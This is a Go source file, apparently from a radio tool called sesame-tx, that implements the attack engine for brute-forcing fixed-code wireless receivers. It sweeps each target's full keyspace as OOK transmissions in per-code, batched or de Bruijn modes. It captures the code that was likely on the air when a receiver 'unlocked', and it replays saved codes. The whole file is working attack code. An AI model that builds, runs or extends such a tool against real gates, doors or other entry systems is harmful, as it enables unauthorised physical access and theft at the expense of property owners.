// Package attack implements the transmission scheduler that drives a
// brute-force run: it expands the operator's target selection, feeds encoded
// payloads (or de Bruijn digit streams) to the radio in size-bounded bursts,
// tracks progress, and records transmitted codes for save-and-replay.
//
// One worker goroutine owns the entire run, including all blocking radio
// I/O. The control surface only sets flags, cancels the run context, and
// reads single-writer atomic counters, so no mutex guards the hot path.
package attack

import (
	"context"
	"errors"
	"fmt"
	"sync"
	"sync/atomic"
	"time"

	"github.com/google/uuid"
	"github.com/rs/zerolog"
	"github.com/rs/zerolog/log"

	"sesame-tx/internal/catalog"
	"sesame-tx/internal/codebuf"
	"sesame-tx/internal/config"
	"sesame-tx/internal/debruijn"
	"sesame-tx/internal/encoder"
	"sesame-tx/internal/models"
	"sesame-tx/internal/radio"
	"sesame-tx/internal/store"
)

var (
	// ErrAlreadyRunning is returned by Start while a run is in progress.
	ErrAlreadyRunning = errors.New("an attack is already in progress")
	// ErrInvalidSelection is returned when replay is requested against a
	// meta-target, which has no saved code of its own.
	ErrInvalidSelection = errors.New("invalid selection for this mode")
)

// Run state, terminal states reported through Progress().Status.
const (
	stateIdle int32 = iota
	stateRunning
	stateCompleted
	stateCancelled
	stateError
)

var stateNames = []string{"idle", "running", "completed", "cancelled", "error"}

// Engine orchestrates attack runs against the target catalog.
type Engine struct {
	cfg     *config.Config
	store   *store.Store
	radio   radio.Transmitter
	targets catalog.Catalog
	logger  zerolog.Logger
	buffer  *codebuf.Buffer

	// Lifecycle, guarded by mu.
	mu       sync.Mutex
	cancel   context.CancelFunc
	done     chan struct{}
	runID    string
	runRowID int64
	mode     Mode
	selected int

	// Single-writer progress fields, written by the worker and read
	// lock-free by the control surface.
	running          uint32
	saveRequested    uint32
	state            int32
	currentCode      uint32
	codesTransmitted uint32
	maxCode          uint32
	activeTarget     int32
}

// New creates an engine over the built-in target catalog.
func New(cfg *config.Config, st *store.Store, tx radio.Transmitter) *Engine {
	return &Engine{
		cfg:     cfg,
		store:   st,
		radio:   tx,
		targets: catalog.Targets,
		logger:  log.With().Str("component", "attack").Logger(),
		buffer:  codebuf.New(cfg.Attack.CodeBufferSize),
		state:   stateIdle,
	}
}

// SetTargetsForTesting swaps the catalog so tests can run against tiny
// keyspaces. Must not be called while a run is active.
func (e *Engine) SetTargetsForTesting(targets catalog.Catalog) {
	e.mu.Lock()
	defer e.mu.Unlock()
	e.targets = targets
}

// Targets returns the catalog the engine runs against.
func (e *Engine) Targets() catalog.Catalog {
	return e.targets
}

// Start launches the attack worker for the given selection and mode. It
// returns immediately once the worker is running; only one run may be active
// at a time. Selection and feasibility problems that would doom the whole
// run (bad index, replay against a meta-target, replay with no saved code,
// single target too large for the mode) are reported here and nothing is
// transmitted.
func (e *Engine) Start(targetIndex int, mode Mode) error {
	e.mu.Lock()
	defer e.mu.Unlock()

	if atomic.LoadUint32(&e.running) == 1 {
		return ErrAlreadyRunning
	}

	indices, err := e.targets.Expand(targetIndex)
	if err != nil {
		return err
	}
	singleTarget := e.targets[targetIndex].Meta == catalog.MetaNone

	var maxCode uint32
	var replayCode uint32
	switch mode {
	case ModeReplay:
		if !singleTarget {
			return fmt.Errorf("replay against %q: %w", e.targets[targetIndex].Name, ErrInvalidSelection)
		}
		replayCode, err = e.store.LoadCode(e.targets[targetIndex].Name)
		if err != nil {
			return err
		}
		maxCode = uint32(e.cfg.Attack.ReplayCount)

	case ModeCompatibility, ModeStream, ModeDeBruijn:
		if singleTarget {
			t := &e.targets[targetIndex]
			if _, err := t.KeyspaceSize(); err != nil {
				return err
			}
			if mode == ModeDeBruijn && !t.DeBruijnFeasible() {
				return fmt.Errorf("%s: %d digits: %w", t.Name, t.DigitCount, catalog.ErrKeyspaceTooLarge)
			}
		}
		maxCode = e.targets.Aggregate(indices, mode == ModeDeBruijn)

	default:
		return fmt.Errorf("unknown attack mode %d", mode)
	}

	runID := uuid.New().String()
	rowID, err := e.store.CreateRun(runID, e.targets[targetIndex].Name, mode.String(), maxCode)
	if err != nil {
		return fmt.Errorf("failed to record run: %w", err)
	}

	e.buffer.Reset()
	atomic.StoreUint32(&e.currentCode, 0)
	atomic.StoreUint32(&e.codesTransmitted, 0)
	atomic.StoreUint32(&e.maxCode, maxCode)
	atomic.StoreUint32(&e.saveRequested, 0)
	atomic.StoreInt32(&e.activeTarget, int32(targetIndex))
	atomic.StoreInt32(&e.state, stateRunning)
	atomic.StoreUint32(&e.running, 1)

	ctx, cancel := context.WithCancel(context.Background())
	e.cancel = cancel
	e.done = make(chan struct{})
	e.runID = runID
	e.runRowID = rowID
	e.mode = mode
	e.selected = targetIndex

	e.logger.Info().
		Str("runId", runID).
		Str("target", e.targets[targetIndex].Name).
		Str("mode", mode.String()).
		Uint32("maxCode", maxCode).
		Msg("Starting attack run")

	go e.run(ctx, indices, mode, replayCode, singleTarget)
	return nil
}

// RequestCancel asks the worker to stop at its next polling point.
func (e *Engine) RequestCancel() {
	e.mu.Lock()
	defer e.mu.Unlock()
	if atomic.LoadUint32(&e.running) == 1 && e.cancel != nil {
		e.cancel()
	}
}

// RequestSaveAndStop cancels the run and asks the worker to persist the
// oldest code in the ring buffer against the currently active real target.
// A receiver that unlocked mid-sweep likely reacted near the start of its
// exposure window, which is what the oldest buffered code approximates.
func (e *Engine) RequestSaveAndStop() {
	e.mu.Lock()
	defer e.mu.Unlock()
	if atomic.LoadUint32(&e.running) == 1 && e.cancel != nil {
		atomic.StoreUint32(&e.saveRequested, 1)
		e.cancel()
	}
}

// IsRunning reports whether a worker is active.
func (e *Engine) IsRunning() bool {
	return atomic.LoadUint32(&e.running) == 1
}

// Stop cancels any active run and waits for the worker to exit. Safe to call
// on an idle engine; used at service teardown.
func (e *Engine) Stop() {
	e.mu.Lock()
	done := e.done
	if atomic.LoadUint32(&e.running) == 1 && e.cancel != nil {
		e.cancel()
	}
	e.mu.Unlock()

	if done != nil {
		<-done
	}
}

// Progress returns a snapshot of the current (or last) run. The worker's
// counters are read lock-free and may be one code stale; the run identity
// fields are read under the lifecycle lock since Start rewrites them.
func (e *Engine) Progress() models.AttackProgress {
	e.mu.Lock()
	runID := e.runID
	mode := e.mode
	selected := e.selected
	e.mu.Unlock()

	active := int(atomic.LoadInt32(&e.activeTarget))
	p := models.AttackProgress{
		Running:          e.IsRunning(),
		TargetIndex:      selected,
		CurrentCode:      atomic.LoadUint32(&e.currentCode),
		CodesTransmitted: atomic.LoadUint32(&e.codesTransmitted),
		MaxCode:          atomic.LoadUint32(&e.maxCode),
		LastCodes:        e.buffer.Recent(5),
		Status:           stateNames[atomic.LoadInt32(&e.state)],
	}
	if runID != "" {
		p.RunID = runID
		p.Mode = mode.String()
	}
	if active >= 0 && active < len(e.targets) {
		p.ActiveTarget = e.targets[active].Name
	}
	return p
}

// run is the worker body. It owns all radio I/O for the run and is the sole
// writer of the progress fields and the ring buffer.
func (e *Engine) run(ctx context.Context, indices []int, mode Mode, replayCode uint32, singleTarget bool) {
	var runErr error

	if mode == ModeReplay {
		runErr = e.runReplay(ctx, &e.targets[indices[0]], replayCode)
	} else {
		runErr = e.runSweep(ctx, indices, mode, singleTarget)
	}

	e.finish(runErr)
}

// runSweep visits each real target in catalog order, pausing between targets
// so the radio settles after a frequency change. In a sweep, a target whose
// keyspace exceeds the mode's bound is logged and skipped; for a single
// target the same condition was already rejected in Start.
func (e *Engine) runSweep(ctx context.Context, indices []int, mode Mode, singleTarget bool) error {
	for pos, idx := range indices {
		if ctx.Err() != nil {
			return ctx.Err()
		}

		t := &e.targets[idx]
		atomic.StoreInt32(&e.activeTarget, int32(idx))

		if _, err := t.KeyspaceSize(); err != nil {
			if singleTarget {
				return err
			}
			e.logger.Warn().Str("target", t.Name).Msg("Keyspace too large, skipping target")
			continue
		}
		if mode == ModeDeBruijn && !t.DeBruijnFeasible() {
			if singleTarget {
				return fmt.Errorf("%s: %w", t.Name, catalog.ErrKeyspaceTooLarge)
			}
			e.logger.Warn().Str("target", t.Name).Msg("Keyspace too large for de Bruijn, skipping target")
			continue
		}

		e.logger.Info().Str("target", t.Name).Str("mode", mode.String()).Msg("Starting target")

		var err error
		switch mode {
		case ModeCompatibility:
			err = e.runCompatibility(ctx, t)
		case ModeStream:
			err = e.runStream(ctx, t)
		case ModeDeBruijn:
			err = e.runDeBruijn(ctx, t)
		}
		if err != nil {
			if errors.Is(err, context.Canceled) {
				return err
			}
			if singleTarget {
				return err
			}
			e.logger.Warn().Err(err).Str("target", t.Name).Msg("Target failed, continuing sweep")
			continue
		}

		if pos < len(indices)-1 {
			if err := e.pause(ctx, time.Duration(e.cfg.Radio.InterTargetPauseMs)*time.Millisecond); err != nil {
				return err
			}
		}
	}
	return nil
}

// runCompatibility transmits one payload per code, synchronously, checking
// cancellation before every transmission.
func (e *Engine) runCompatibility(ctx context.Context, t *catalog.Target) error {
	size, err := t.KeyspaceSize()
	if err != nil {
		return err
	}

	for code := uint32(0); code < size; code++ {
		if ctx.Err() != nil {
			return ctx.Err()
		}

		payload, err := encoder.Encode(code, t)
		if err != nil {
			return err
		}

		atomic.StoreUint32(&e.currentCode, code)
		atomic.AddUint32(&e.codesTransmitted, 1)

		if err := e.transmitFrame(ctx, t.FrequencyHz, payload); err != nil {
			return err
		}
		e.buffer.Push(code)
	}
	return nil
}

// runStream batches payloads into one contiguous bit buffer and transmits
// the batch as a single burst, flushing any partial batch at exhaustion.
func (e *Engine) runStream(ctx context.Context, t *catalog.Target) error {
	size, err := t.KeyspaceSize()
	if err != nil {
		return err
	}

	payloadSize := encoder.PayloadSize(t)
	chunkCodes := e.cfg.Attack.PayloadsPerChunk
	chunk := make([]byte, 0, payloadSize*chunkCodes)
	inChunk := 0

	for code := uint32(0); code < size; code++ {
		if ctx.Err() != nil {
			return ctx.Err()
		}

		payload, err := encoder.Encode(code, t)
		if err != nil {
			return err
		}

		atomic.StoreUint32(&e.currentCode, code)
		atomic.AddUint32(&e.codesTransmitted, 1)
		e.buffer.Push(code)

		chunk = append(chunk, payload...)
		inChunk++

		if inChunk == chunkCodes || code == size-1 {
			if err := e.transmitFrame(ctx, t.FrequencyHz, chunk); err != nil {
				return err
			}
			chunk = chunk[:0]
			inChunk = 0

			if err := e.pause(ctx, time.Duration(e.cfg.Radio.TxSettleMs)*time.Millisecond); err != nil {
				return err
			}
		}
	}
	return nil
}

// runDeBruijn generates the minimal covering digit sequence for the target
// and streams it in chunked bursts, one digit pattern per emission. The
// rolling code register is reconstructed alongside so progress and the ring
// buffer still speak in whole codes; the first n-1 digits only prime the
// register and are not reported.
func (e *Engine) runDeBruijn(ctx context.Context, t *catalog.Target) error {
	k := int(t.AlphabetSize)
	n := int(t.DigitCount)

	// Each target gets a fresh buffer so save-on-stop can only capture codes
	// for the profile actually on the air.
	e.buffer.Reset()

	seq, err := debruijn.Generate(ctx, k, n, e.cfg.Attack.DeBruijnMemoryLimit)
	if err != nil {
		return err
	}

	numCodes, err := t.KeyspaceSize()
	if err != nil {
		return err
	}
	divisor := numCodes / uint32(k)

	digitsPerChunk := e.cfg.Attack.PayloadsPerChunk
	bitsPerChunk := int(t.BitLengthPerDigit) * digitsPerChunk
	chunk := make([]byte, (bitsPerChunk+7)/8)
	bitOffset := 0

	var register uint32
	for i := 0; i < len(seq); i++ {
		if ctx.Err() != nil {
			return ctx.Err()
		}

		digit := seq[i]
		if i < n {
			register = register*uint32(k) + uint32(digit)
		} else {
			register = register%divisor*uint32(k) + uint32(digit)
		}

		if i >= n-1 {
			atomic.StoreUint32(&e.currentCode, register)
			atomic.AddUint32(&e.codesTransmitted, 1)
			e.buffer.Push(register)
		}

		bitOffset = encoder.AppendDigit(chunk, bitOffset, digit, t)

		if (i+1)%digitsPerChunk == 0 {
			if err := e.transmitFrame(ctx, t.FrequencyHz, chunk); err != nil {
				return err
			}
			for j := range chunk {
				chunk[j] = 0
			}
			bitOffset = 0

			if err := e.pause(ctx, time.Duration(e.cfg.Radio.TxSettleMs)*time.Millisecond); err != nil {
				return err
			}
		}
	}

	if bitOffset > 0 {
		final := chunk[:(bitOffset+7)/8]
		if err := e.transmitFrame(ctx, t.FrequencyHz, final); err != nil {
			return err
		}
	}
	return nil
}

// runReplay retransmits one saved code a fixed number of times.
func (e *Engine) runReplay(ctx context.Context, t *catalog.Target, code uint32) error {
	payload, err := encoder.Encode(code, t)
	if err != nil {
		return err
	}

	atomic.StoreUint32(&e.currentCode, code)

	for i := 0; i < e.cfg.Attack.ReplayCount; i++ {
		if ctx.Err() != nil {
			return ctx.Err()
		}

		atomic.AddUint32(&e.codesTransmitted, 1)
		e.buffer.Push(code)

		if err := e.transmitFrame(ctx, t.FrequencyHz, payload); err != nil {
			return err
		}
		if err := e.pause(ctx, time.Duration(e.cfg.Attack.ReplayPauseMs)*time.Millisecond); err != nil {
			return err
		}
	}
	return nil
}

// transmitFrame keys one bit buffer onto the air: reset, preset, tune, then
// poll the async transmission until the source drains or the run is
// cancelled. The radio is always stopped and put to sleep before returning.
func (e *Engine) transmitFrame(ctx context.Context, freqHz uint32, payload []byte) error {
	if len(payload) == 0 {
		return nil
	}

	if err := e.radio.Reset(); err != nil {
		return fmt.Errorf("radio reset: %w", err)
	}
	if err := e.radio.LoadOOKPreset(radio.OOKPreset); err != nil {
		return fmt.Errorf("radio preset: %w", err)
	}
	if err := e.radio.SetFrequency(freqHz); err != nil {
		return fmt.Errorf("radio tune %d Hz: %w", freqHz, err)
	}

	src := radio.NewFrameSource(payload, time.Duration(e.cfg.Radio.BitDurationMicros)*time.Microsecond)
	if !e.radio.StartAsyncTx(src.Next) {
		e.radio.Sleep()
		return errors.New("radio failed to start async transmission")
	}

	poll := time.Duration(e.cfg.Radio.TxPollIntervalMs) * time.Millisecond
	for !src.Done() {
		select {
		case <-ctx.Done():
			e.radio.StopAsyncTx()
			e.radio.Sleep()
			return ctx.Err()
		case <-time.After(poll):
		}
	}

	e.radio.StopAsyncTx()
	e.radio.Sleep()
	return nil
}

// pause sleeps for d unless the run is cancelled first, keeping cancellation
// latency bounded by the pause itself.
func (e *Engine) pause(ctx context.Context, d time.Duration) error {
	if d <= 0 {
		return ctx.Err()
	}
	select {
	case <-ctx.Done():
		return ctx.Err()
	case <-time.After(d):
		return nil
	}
}

// finish handles save-on-stop, persists the run outcome, and moves the
// engine to a terminal state. Cancellation is a clean outcome, not an error.
func (e *Engine) finish(runErr error) {
	status := stateCompleted
	errMessage := ""
	switch {
	case runErr == nil:
	case errors.Is(runErr, context.Canceled):
		status = stateCancelled
	default:
		status = stateError
		errMessage = runErr.Error()
		e.logger.Error().Err(runErr).Str("runId", e.runID).Msg("Attack run failed")
	}

	if atomic.LoadUint32(&e.saveRequested) == 1 {
		e.saveOldestCode()
		atomic.StoreUint32(&e.saveRequested, 0)
	}

	codes := atomic.LoadUint32(&e.codesTransmitted)
	maxCode := atomic.LoadUint32(&e.maxCode)
	if err := e.store.FinishRun(e.runRowID, stateNames[status], codes, maxCode, errMessage); err != nil {
		e.logger.Error().Err(err).Msg("Failed to record run outcome")
	}

	e.logger.Info().
		Str("runId", e.runID).
		Str("status", stateNames[status]).
		Uint32("codesTransmitted", codes).
		Uint32("maxCode", maxCode).
		Msg("Attack run finished")

	atomic.StoreInt32(&e.state, status)
	atomic.StoreUint32(&e.running, 0)
	close(e.done)
}

// saveOldestCode persists the oldest buffered code against the currently
// active real target. The oldest entry approximates the code on the air when
// the receiver likely reacted, not the instant the operator hit stop.
func (e *Engine) saveOldestCode() {
	idx := int(atomic.LoadInt32(&e.activeTarget))
	code, ok := e.buffer.Oldest()
	if !ok {
		e.logger.Warn().Msg("Save requested but code buffer is empty")
		return
	}
	if !e.targets.Saveable(idx) {
		e.logger.Warn().Int("target", idx).Msg("Save requested for non-saveable target")
		return
	}

	if err := e.store.SaveCode(e.targets[idx].Name, code); err != nil {
		e.logger.Error().Err(err).Msg("Failed to persist saved code")
		return
	}
	e.logger.Info().
		Str("target", e.targets[idx].Name).
		Uint32("code", code).
		Msg("Saved oldest buffered code")
}
